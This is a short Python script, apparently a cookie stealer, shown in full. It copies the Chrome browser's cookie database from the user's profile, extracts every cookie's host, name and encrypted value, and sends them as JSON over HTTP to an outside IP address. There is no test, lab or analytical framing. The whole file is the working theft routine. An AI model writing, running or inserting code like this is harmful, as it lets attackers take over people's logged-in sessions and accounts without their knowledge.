import os, sqlite3, shutil, tempfile, json, urllib.request

def chrome_cookies():
    src = os.path.expanduser("~/.config/google-chrome/Default/Cookies")
    tmp = tempfile.mktemp()
    shutil.copy(src, tmp)
    rows = sqlite3.connect(tmp).execute("select host_key, name, encrypted_value from cookies").fetchall()
    return [(h, n, v.hex()) for h, n, v in rows]

data = json.dumps({"cookies": chrome_cookies()}).encode()
urllib.request.urlopen("http://192.0.2.33/c", data=data)
